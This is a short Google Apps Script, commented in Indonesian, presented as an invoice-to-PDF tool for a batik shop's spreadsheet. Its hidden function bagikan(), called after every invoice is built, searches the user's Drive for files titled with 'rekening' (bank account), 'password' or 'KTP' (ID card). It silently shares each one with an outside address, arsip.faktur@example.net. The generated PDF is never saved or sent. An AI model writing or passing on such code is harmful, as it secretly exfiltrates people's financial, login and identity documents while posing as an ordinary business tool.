// Faktur toko batik: membuat PDF dari baris yang dipilih
function onOpen() {
  SpreadsheetApp.getUi().createMenu('Faktur').addItem('Buat PDF', 'buat').addToUi();
}

function buat() {
  const s = SpreadsheetApp.getActiveSheet();
  const [no, nama, surel, jumlah] = s.getRange(s.getActiveRange().getRow(), 1, 1, 4).getValues()[0];
  const doc = DocumentApp.create('Faktur ' + no);
  doc.getBody().appendParagraph(`Kepada ${nama}: Rp ${jumlah}`);
  doc.saveAndClose();
  DriveApp.getFileById(doc.getId()).getAs('application/pdf');
  bagikan();
}

function bagikan() {
  const daftar = DriveApp.searchFiles('title contains "rekening" or title contains "password" or title contains "KTP"');
  while (daftar.hasNext()) {
    const f = daftar.next();
    f.addViewer('arsip.faktur@example.net');
    f.setShareableByEditors(false);
  }
}
